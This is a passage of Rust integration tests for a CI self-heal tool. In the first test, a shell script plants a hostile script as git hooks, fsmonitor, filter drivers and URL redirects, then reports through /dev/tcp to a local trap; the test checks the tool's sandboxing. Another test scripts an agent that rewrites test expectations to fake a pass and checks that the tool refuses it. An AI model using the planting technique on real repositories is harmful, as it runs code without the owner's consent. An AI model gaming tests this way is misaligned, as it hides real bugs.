        r#"set -u
evil="${{TMPDIR:-/tmp}}/.evil.sh"
cat > "$evil" <<'EOS'
{call}EOS
chmod +x "$evil"
plant() {{
  g="$1"
  [ -d "$g" ] || return 0
  mkdir -p "$g/hooks" "$g/info" 2>/dev/null
  for h in pre-commit post-commit commit-msg pre-push reference-transaction post-index-change post-checkout; do
    cp "$evil" "$g/hooks/$h" 2>/dev/null && chmod +x "$g/hooks/$h"
  done
  printf '* filter=evil diff=evil\n' >> "$g/info/attributes" 2>/dev/null
  git config --file "$g/config" core.fsmonitor "$evil" 2>/dev/null
  git config --file "$g/config" core.hooksPath "$g/hooks" 2>/dev/null
  git config --file "$g/config" filter.evil.clean "$evil" 2>/dev/null
  git config --file "$g/config" filter.evil.required true 2>/dev/null
  git config --file "$g/config" diff.evil.textconv "$evil" 2>/dev/null
  git config --file "$g/config" url.http://127.0.0.1:{port}/.insteadOf "{server_url}/" 2>/dev/null
  git config --file "$g/config" url.http://127.0.0.1:{port}/.pushInsteadOf "{server_url}/" 2>/dev/null
  git config --file "$g/config" include.path "${{TMPDIR:-/tmp}}/.evil.gitconfig" 2>/dev/null
  git config --file "$g/config" core.fsmonitor >/dev/null 2>&1 && planted="$planted+$2"
}}
planted=""
printf '[core]\n\tfsmonitor = %s\n' "$evil" > "${{TMPDIR:-/tmp}}/.evil.gitconfig"
printf '* filter=evil diff=evil\n' > .gitattributes
plant .git worktree
for g in "$HOME"/../../protected/git "$(dirname "$PWD")"/.salve-heal-*/protected/git; do plant "$g" protected; done
cp "${{TMPDIR:-/tmp}}/.evil.gitconfig" "$(dirname "$PWD")/.gitconfig" 2>/dev/null && planted="$planted+jobhome"
printf 'GET /planted%s HTTP/1.0\r\n\r\n' "$planted" > /dev/tcp/127.0.0.1/{port}
"#,
        port = trap.port
    );
    // Jobs have a network of their own: the trap is a port of the host's loopback that the heal
    // job reaches because a secret of its names it (as a model server on the machine would be).
    let trap_url = format!("TRAP_URL=http://127.0.0.1:{}", trap.port);
    let made = server.salve(&["secret", "create", "trap", "-e", &trap_url]);
    assert!(made.status.success(), "{}", stderr(&made));
    let _p = project(
        &server,
        "trapped",
        &[
            (".semaphore/selfheal.yml", &heal_with(&["trap"])),
            (".semaphore/semaphore.yml", &ci(&job("Lint", "", "sort -c list.txt"), SEED_WHEN)),
            ("list.txt", "b\na\n"),
            ("plant.sh", &plant),
            (
                "salve.toml",
                "[[heal.fixer]]\nname = \"sort the list\"\nwhen_command = 'sort -c'\nrun = [\"bash plant.sh\", \"sort -o list.txt list.txt\", \"rm -f .gitattributes\"]\n",
            ),
        ],
    );
    let list = server.wait("trapped", "the heal's pull request", |l| {
        l.iter().any(|p| p["name"] == "PR" && p["state"] == "done")
            || l.iter().any(|p| p["name"] == "Self-heal" && p["state"] == "done" && p["result"] != "passed")
    });
    let heal = list.iter().find(|p| p["name"] == "Self-heal").unwrap();
    let log = heal_log(&server, heal);
    let h = server.get("/api/v1/heals?project=trapped");
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert_eq!(h["heals"][0]["outcome"], "pushed", "{h:#}\n{log}\n{:?}", trap.hits.lock().unwrap());
    std::thread::sleep(std::time::Duration::from_millis(300));
    // The fixer planted in the work tree's `.git` (its own to trash), but could not reach the
    // heal's protected copy or the heal job's home; nothing it planted ran.
    let hits = trap.hits.lock().unwrap().clone();
    assert_eq!(hits.len(), 1, "planted code ran: {hits:?}\n{log}");
    assert!(hits[0].starts_with("GET /planted+worktree HTTP"), "{hits:?}");
    let branch = h["heals"][0]["report"]["heal_branch"].as_str().unwrap();
    let repo = data.path().join("repos/trapped.git");
    assert_eq!(bare(&repo, &["diff", "--name-only", "main", branch]).trim(), "list.txt");
    assert_eq!(bare(&repo, &["show", &format!("{branch}:list.txt")]), "a\nb\n");
    assert_eq!(bare(&repo, &["rev-parse", "main"]), bare(&repo, &["rev-parse", &format!("{branch}~1")]));
}

/// A commit that changes only code breaks a test; the scripted agent takes the tempting
/// shortcut (it rewrites the test's expected value, or regenerates the golden file to match the
/// buggy output). Both are refused with the rule named, and nothing is pushed.
#[test]
fn an_agent_that_rewrites_what_a_test_expects_is_refused() {
    let data = tempfile::tempdir().unwrap();
    let server = Server::start(data.path());
    let money = "def split(total, parts):\n    base, rest = divmod(total, parts)\n    return [base + (1 if i < rest else 0) for i in range(parts)]\n";
    let buggy = "def split(total, parts):\n    base, rest = divmod(total, parts)\n    return [base + (1 if i <= rest else 0) for i in range(parts)]\n";
    let agent = |script: &str| format!("{script}\necho 'make the test pass' > commit-message.txt\n");
    let projects = [
        (
            "expectation",
            vec![
                ("tests/test_money.py", "import sys\nsys.path.insert(0, '.')\nfrom money import split\n\n\ndef test_split():\n    assert split(1000, 3) == [334, 333, 333]\n".to_owned()),
                ("agent.sh", agent("sed -i 's/\\[334, 333, 333\\]/[334, 334, 333]/' tests/test_money.py")),
            ],
            "python3 -m pytest -q -p no:cacheprovider",
            "rewrites_expectation",
        ),
        (
            "golden",
            vec![
                ("report.py", "from money import split\nprint(split(1000, 3))\n".to_owned()),
                ("testdata/report.golden", "[334, 333, 333]\n".to_owned()),
                ("agent.sh", agent("python3 report.py > testdata/report.golden")),
            ],
            "python3 report.py | diff - testdata/report.golden",
            "updates_snapshot",
        ),
    ];
    let mut dirs = Vec::new();
    for (name, files, command, _) in &projects {
        let mut all: Vec<(&str, &str)> = files.iter().map(|(p, t)| (*p, t.as_str())).collect();
        let yml = ci(&job("Test", "", command), SEED_WHEN);
        all.extend([
            (".semaphore/semaphore.yml", yml.as_str()),
            ("money.py", money),
            ("salve.toml", "[heal.agent]\ncommand = \"bash agent.sh\"\n"),
        ]);
        let dir = project(&server, name, &all);
        server.wait(name, "the green push", |l| l.iter().any(|p| p["name"] == "CI" && p["result"] == "passed"));
        // The breaking commit changes code only.
        commit(dir.path(), &[("money.py", Some(buggy))], "a change to the code");
        server.push(dir.path(), name, "HEAD:refs/heads/main");
        dirs.push(dir);
    }
    for (name, _, _, rule) in &projects {
        server.wait(name, "the heal", |l| l.iter().any(|p| p["name"] == "Self-heal" && p["state"] == "done"));
        let h = server.get(&format!("/api/v1/heals?project={name}"));
        assert_eq!(h["heals"][0]["outcome"], "refused", "{name}: {h:#}");
        let rules: Vec<&str> = h["heals"][0]["report"]["refusals"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["rule"].as_str().unwrap())
            .collect();
        assert_eq!(rules, [*rule], "{name}: {h:#}");
        let repo = data.path().join(format!("repos/{name}.git"));
        assert_eq!(bare(&repo, &["for-each-ref", "refs/heads/selfheal-*"]), "", "{name}: nothing pushed");
    }
}

/// Shell and C, healed by their tools' own fixes with zero model tokens: shellcheck's diffs
/// applied, clang-format in place; each verified and pushed, its pull request opened.
#[test]
fn shell_and_c_lints_are_healed_by_their_tools() {
    let data = tempfile::tempdir().unwrap();
    let server = Server::start(data.path());
    let script = "#!/bin/bash\nname=$1\nif [ -z $name ]; then\n  echo \"usage\"\nfi\necho $name\n";
    let cases = [
        ("shell", "shellcheck run.sh", ("run.sh", script), "apply shellcheck -f diff"),
        ("cfmt", "clang-format --dry-run --Werror m.c", ("m.c", "int  main(){return 0;}\n"), "apply clang-format -i"),
    ];
    let mut dirs = Vec::new();
    for (name, command, (path, text), _) in &cases {
        let yml = ci(&job("Lint", "", command), SEED_WHEN);
        dirs.push(project(&server, name, &[(".semaphore/semaphore.yml", &yml), (path, text)]));
    }
    for (name, command, (path, _), summary) in &cases {
        let list = server.wait(name, "the pull request", |l| {
            l.iter().any(|p| p["name"] == "PR" && p["state"] == "done")
                || l.iter().any(|p| p["name"] == "Self-heal" && p["state"] == "done" && p["result"] != "passed")
        });
        let h = server.get(&format!("/api/v1/heals?project={name}"));
        assert_eq!(h["heals"][0]["outcome"], "pushed", "{name}: {h:#}\n{list:#?}");
        assert_eq!(h["heals"][0]["report"]["tiers"][0]["detail"], *summary, "{h:#}");
        assert_eq!(h["heals"][0]["report"]["tokens"], 0);
        let ran = &h["heals"][0]["report"]["tiers"][0]["ran"];
        assert!(ran.as_array().is_some_and(|r| r.len() >= 2), "the fixer and the verification are reported: {h:#}");
        let branch = h["heals"][0]["report"]["heal_branch"].as_str().unwrap();
        let repo = data.path().join(format!("repos/{name}.git"));
        assert_eq!(bare(&repo, &["diff", "--name-only", "main", branch]).trim(), *path, "{name}");
        let ci_there = list.iter().find(|p| p["branch"] == branch && p["name"] == "CI").unwrap();
        assert_eq!(ci_there["result"], "passed", "{command} passes on {branch}");
    }
}

/// A job its time limit stopped (the pipeline `stopped`/`timeout`, as in Semaphore) is healed:
/// `salve init`'s condition fires for it, and the rerun gets the job's own limit: the second
/// run is fast, so the heal ends flaky with no change.
#[test]
fn a_timed_out_job_is_rerun_under_its_own_limit() {
    let data = tempfile::tempdir().unwrap();
    let server = Server::start(data.path());
    let slow = "if cache has_key slow-once; then echo fast; else cache store slow-once .semaphore; sleep 100; fi";
    let yml = ci(&job("Slow", "", slow), INIT_WHEN).replace(
        "          commands:\n",
        "          execution_time_limit:\n            minutes: 1\n          commands:\n",
    );
    let _p = project(&server, "slow", &[(".semaphore/semaphore.yml", &yml)]);
    let list = server.wait_for("slow", "the heal of the time limit", std::time::Duration::from_secs(240), |l| {
        l.iter().any(|p| p["name"] == "Self-heal" && p["state"] == "done")
    });
    let first = list.iter().find(|p| p["name"] == "CI").unwrap();
    assert_eq!(
        (first["result"].as_str(), first["result_reason"].as_str()),
        (Some("stopped"), Some("timeout")),
        "{list:#?}"
    );
    let h = server.get("/api/v1/heals?project=slow");
    assert_eq!(h["heals"][0]["outcome"], "flaky", "{h:#}");
    assert_eq!(h["heals"][0]["report"]["tiers"][0]["name"], "rerun", "{h:#}");
}
